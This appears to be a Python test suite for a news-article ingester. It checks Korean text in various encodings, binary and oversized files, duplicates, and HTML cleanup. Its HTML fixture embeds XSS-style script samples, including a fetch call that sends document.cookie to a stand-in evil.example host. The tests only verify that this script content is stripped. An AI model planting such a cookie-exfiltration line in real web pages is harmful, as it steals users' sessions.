"""Article files people actually have: odd encodings, empty or binary files, huge dumps,
duplicates and script-laden HTML. Each is ingested with the right text or skipped with a
one-line reason naming the file, and the build goes on with the rest."""

from __future__ import annotations

import gzip
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from assistant.ingest.corpus import MAX_FILE_BYTES, Skipped, load_articles

REPO = Path(__file__).resolve().parents[2]

SAMSUNG = (
    "삼성전자가 올해 3분기 영업이익이 전년 대비 크게 늘었다고 밝혔습니다.\n\n"
    "반도체 부문의 회복이 실적을 이끌었다는 분석이 나옵니다.\n"
)
SAMSUNG_BODY = (
    "삼성전자가 올해 3분기 영업이익이 전년 대비 크게 늘었다고 밝혔습니다.\n\n"
    "반도체 부문의 회복이 실적을 이끌었다는 분석이 나옵니다."
)
BOK = (
    "한국은행이 기준금리를 연 3.0%로 동결했습니다. 물가 상승 압력이 여전히 높다는 판단입니다.\n\n"
    "시장은 연내 인하 가능성에 주목하고 있습니다.\n"
)
HYUNDAI = "현대자동차가 전기차 신모델을 공개했습니다. 한 번 충전으로 600킬로미터를 달립니다.\r\n"
KIA = "기아가 미국 시장에서 판매 신기록을 세웠습니다. 하이브리드 차량이 인기를 끌었습니다.\n"
NAVER = "네이버가 새 검색 서비스를 내놓았습니다. 생성형 AI를 붙였습니다.\n"
LGES = "LG에너지솔루션이 북미 배터리 공장 증설 계획을 발표했습니다 회사는 2027년까지 생산능력을 두 배로 늘린다 "
POSCO = "포스코가 이차전지 소재 투자를 늘린다고 밝혔습니다. 광양에 새 공장을 짓습니다."
KAKAO_HTML = """<!doctype html><html><head><meta charset="utf-8"><title>카카오 2분기 실적 발표</title>
<script>window.__pwned = 1; alert('xss'); document.write('<b>주입된 글</b>');</script>
<script src="https://tracker.example/t.js"></script><style>p { color: red }</style></head>
<body><nav>홈 | 경제 | 정치</nav><script>var 스크립트글 = "스크립트 안의 한국어 글은 기사가 아닙니다";</script>
<article><h1>카카오 2분기 실적 발표</h1>
<p>카카오가 2분기 매출이 2조 원을 넘었다고 발표했습니다. 광고와 커머스 부문이 성장을 이끌었습니다.</p>
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
<p onclick="alert(1)">회사는 인공지능 서비스 투자를 늘릴 계획이라고 밝혔습니다.</p>
<p>플랫폼 부문 매출도 지난해보다 12% 증가했습니다.</p></article>
<noscript>자바스크립트를 켜 주세요</noscript><script>console.log("끝")</script></body></html>"""
ONLY_SCRIPTS_HTML = (
    "<html><head><script>alert(1)</script></head><body><script>document.body.innerHTML='x'</script>"
    "<script src='a.js'></script><style>body{}</style></body></html>"
)


def write_messy(d: Path) -> None:
    """Fill `d` with one file per case."""
    d.mkdir(parents=True, exist_ok=True)
    (d / "bom.txt").write_bytes(b"\xef\xbb\xbf" + SAMSUNG.encode("utf-8"))
    (d / "cp949.txt").write_bytes(BOK.replace("3.0%", "3.5%").encode("cp949"))
    (d / "euckr.txt").write_bytes(BOK.encode("euc-kr"))
    (d / "utf16.txt").write_bytes(HYUNDAI.encode("utf-16"))  # with a BOM
    (d / "utf16le_nobom.txt").write_bytes(KIA.encode("utf-16-le"))
    (d / "utf16be_nobom.txt").write_bytes(NAVER.encode("utf-16-be"))
    cut = (POSCO + "\n\n" + SAMSUNG.replace("삼성전자", "SK하이닉스") * 3 + "끝").encode()[:-1]  # mid-character
    (d / "cutoff.txt").write_bytes(cut)
    (d / "empty.txt").write_bytes(b"")
    (d / "blank.txt").write_bytes(b"  \n\n\t \r\n")
    (d / "random.txt").write_bytes(os.urandom(8192))
    zf = zipfile.ZipFile(d / "archive.txt", "w")
    zf.writestr("a.txt", SAMSUNG * 50)
    zf.close()
    (d / "compressed.txt").write_bytes(gzip.compress((SAMSUNG * 50).encode()))
    db = sqlite3.connect(d / "database.md")
    db.execute("CREATE TABLE t (a)")
    db.execute("INSERT INTO t VALUES (?)", (SAMSUNG,))
    db.commit()
    db.close()
    big = (SAMSUNG * (50 * 2**20 // len(SAMSUNG.encode()) + 1)).encode()
    (d / "dump.txt").write_bytes(big[: 50 * 2**20])
    (d / "oneline.txt").write_text(LGES * 20, encoding="utf-8")
    (d / "dup_a.txt").write_text(SAMSUNG, encoding="utf-8")  # same story as bom.txt
    (d / "dup_b.txt").write_bytes(SAMSUNG.replace("\n", "\r\n").encode("cp949"))  # same story, other bytes
    (d / "kakao.html").write_text(KAKAO_HTML, encoding="utf-8")
    (d / "scripts.html").write_text(ONLY_SCRIPTS_HTML, encoding="utf-8")
    (d / "bad\nname.txt").write_bytes(os.urandom(1024))
    (d / "metadata.json").write_text(
        json.dumps({"euckr.txt": "not an object", "kakao.html": {"outlet": "테스트일보"}}, ensure_ascii=False),
        encoding="utf-8",
    )


@pytest.fixture(scope="module")
def messy(tmp_path_factory) -> tuple[Path, dict, dict]:
    d = tmp_path_factory.mktemp("messy") / "articles"
    write_messy(d)
    articles, skipped = load_articles(d)
    return d, {a.source: a for a in articles}, {s.path: s for s in skipped}


def test_utf8_with_bom(messy):
    _, ok, _ = messy
    a = ok["bom.txt"]
    assert a.encoding == "utf-8-sig"
    assert a.text == SAMSUNG_BODY
    assert not a.text.startswith("\ufeff") and "\ufeff" not in a.title


@pytest.mark.parametrize("name,expected", [
    ("cp949.txt", BOK.replace("3.0%", "3.5%")),
    ("euckr.txt", BOK),
])
def test_cp949_and_euc_kr(messy, name, expected):
    _, ok, _ = messy
    a = ok[name]
    assert a.encoding.replace("_", "-").lower() in ("cp949", "euc-kr", "uhc", "ms949")
    assert a.text == expected.strip()


@pytest.mark.parametrize("name,expected", [
    ("utf16.txt", HYUNDAI), ("utf16le_nobom.txt", KIA), ("utf16be_nobom.txt", NAVER),
])
def test_utf16_with_and_without_bom(messy, name, expected):
    _, ok, _ = messy
    a = ok[name]
    assert "16" in a.encoding
    assert a.text == expected.strip()
    assert "\r" not in a.text and "\x00" not in a.text


def test_cut_off_utf8_download_keeps_the_text(messy):
    _, ok, _ = messy
    a = ok["cutoff.txt"]
    assert a.text.startswith(POSCO)
    assert a.text.count("\ufffd") == 1 and a.text.endswith("\ufffd")


@pytest.mark.parametrize("name,reason", [
    ("empty.txt", "empty file"),
    ("blank.txt", "empty file"),
    ("random.txt", "binary"),
    ("archive.txt", "binary"),
    ("compressed.txt", "binary"),
    ("database.md", "binary"),
    ("dump.txt", "too large"),
    ("scripts.html", "no article text"),
])
def test_unreadable_files_are_skipped_with_a_reason(messy, name, reason):
    _, ok, skipped = messy
    assert name not in ok
    s = skipped[name]
    assert reason in s.reason
    line = str(s)
    assert "\n" not in line and name in line and reason in line


def test_50mb_skip_names_the_size(messy):
    d, _, skipped = messy
    assert (d / "dump.txt").stat().st_size == 50 * 2**20 > MAX_FILE_BYTES
    assert "50.0 MB" in skipped["dump.txt"].reason


def test_file_without_paragraphs(messy):
    _, ok, _ = messy
    a = ok["oneline.txt"]
    assert a.text == (LGES * 20).strip()
    from assistant.ingest.chunking import ChunkSettings, split_article

    passages = split_article(a)
    assert len(passages) >= 3
    assert all(a.text[p.start : p.end] == p.text for p in passages)
    assert max(len(p.text) for p in passages) <= ChunkSettings().size


def test_duplicates_are_indexed_once(messy):
    _, ok, skipped = messy
    same = [a for a in ok.values() if a.text == SAMSUNG_BODY]
    assert [a.source for a in same] == ["bom.txt"]
    for name in ("dup_a.txt", "dup_b.txt"):
        assert skipped[name].reason == "duplicate of bom.txt"


def test_html_full_of_scripts_keeps_only_the_article(messy):
    _, ok, _ = messy
    a = ok["kakao.html"]
    assert a.title == "카카오 2분기 실적 발표"
    assert a.outlet == "테스트일보"
    for para in ("카카오가 2분기 매출이 2조 원을 넘었다고 발표했습니다.",
                 "회사는 인공지능 서비스 투자를 늘릴 계획이라고", "플랫폼 부문 매출도 지난해보다 12% 증가했습니다."):
        assert para in a.text
    for junk in ("alert", "__pwned", "document", "fetch", "스크립트", "주입된", "tracker", "console", "color",
                 "자바스크립트", "<", ">", "홈 | 경제"):
        assert junk not in a.text, junk


def test_non_object_metadata_entry_is_ignored(messy):
    _, ok, _ = messy
    assert ok["euckr.txt"].outlet == ""


def test_file_name_with_newline_gives_one_line_warning(messy):
    _, _, skipped = messy
    s = skipped["bad\nname.txt"]
    assert "binary" in s.reason
    assert "\n" not in str(s) and "bad\\nname.txt" in str(s)


def test_every_file_is_accounted_for(messy):
    d, ok, skipped = messy
    files = {p.name for p in d.iterdir() if p.name != "metadata.json"}
    assert set(ok) | set(skipped) == files
    assert not set(ok) & set(skipped)


def test_build_goes_on_with_the_rest(messy, embedder, index_dir, tmp_path):
    """A real build over the messy folder plus the shipped articles: every good file is
    searchable, every bad one listed in the manifest, and the index loads."""
    from assistant.index.build import build_index
    from assistant.index.faiss_store import load_index
    from assistant.search.retriever import Retriever

    d, ok, skipped = messy
    articles = tmp_path / "articles"
    shutil.copytree(d, articles)
    for f in (REPO / "articles").glob("*.txt"):
        shutil.copy(f, articles)
    out = tmp_path / "index"
    shutil.copytree(index_dir / "cache", out / "cache")  # reuse the shipped articles' vectors
    report = build_index(articles, out, embedder=embedder, progress=False)
    assert report.articles == len(ok) + 2
    assert {s.path for s in report.skipped} == set(skipped)
    loaded = load_index(out)
    assert set(loaded.articles) == {Path(n).stem for n in ok} | {f.stem for f in (REPO / "articles").glob("*.txt")}
    assert len(loaded.manifest["corpus"]["skipped"]) == len(skipped)
    r = Retriever.load(out, embedder=embedder)
    top = r.search("한국은행 기준금리 3.5% 동결", k=3)
    assert top[0].doc_id in ("cp949", "euckr")
    assert any(h.doc_id == "kakao" for h in r.search("카카오 2분기 매출", k=3))


@pytest.mark.slow
def test_cli_build_prints_one_warning_line_per_skipped_file(messy, tmp_path):
    """The real command: exit 0, one `warning:` line naming each skipped file, no traceback."""
    d, ok, skipped = messy
    articles = tmp_path / "articles"
    shutil.copytree(d, articles)
    env = os.environ | {"HF_HUB_OFFLINE": "1", "TOKENIZERS_PARALLELISM": "false"}
    proc = subprocess.run(
        [sys.executable, "-m", "assistant", "build", "--articles", str(articles), "--index", str(tmp_path / "ix"),
         "--quiet"], capture_output=True, text=True, env=env, timeout=600, cwd=REPO,
    )
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    warnings = [ln for ln in proc.stderr.splitlines() if ln.startswith("warning: ")]
    assert len(warnings) == len(skipped)
    for s in skipped.values():
        assert sum(str(s) in w for w in warnings) == 1
    assert f"{len(ok)} articles" in proc.stdout


def test_skipped_is_one_line_for_any_reason():
    s = Skipped("a\rb\x1b[31m.txt", "multi\nline\treason")
    assert "\n" not in str(s) and "\r" not in str(s) and "\x1b" not in str(s)


def test_fifo_and_symlink_loop_never_hang(tmp_path):
    """A named pipe called .txt would block a reader forever; a symlink loop would recurse forever."""
    import signal

    d = tmp_path / "articles"
    (d / "sub").mkdir(parents=True)
    (d / "ok.txt").write_text(SAMSUNG, encoding="utf-8")
    os.mkfifo(d / "pipe.txt")
    (d / "sub" / "loop").symlink_to(d, target_is_directory=True)
    (d / "dangling.txt").symlink_to(tmp_path / "nowhere.txt")

    def timeout(*_):  # noqa: ANN002
        raise TimeoutError("load_articles hung")

    old = signal.signal(signal.SIGALRM, timeout)
    signal.alarm(30)
    try:
        articles, skipped = load_articles(d)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)
    assert [a.source for a in articles] == ["ok.txt"]
    assert skipped == []
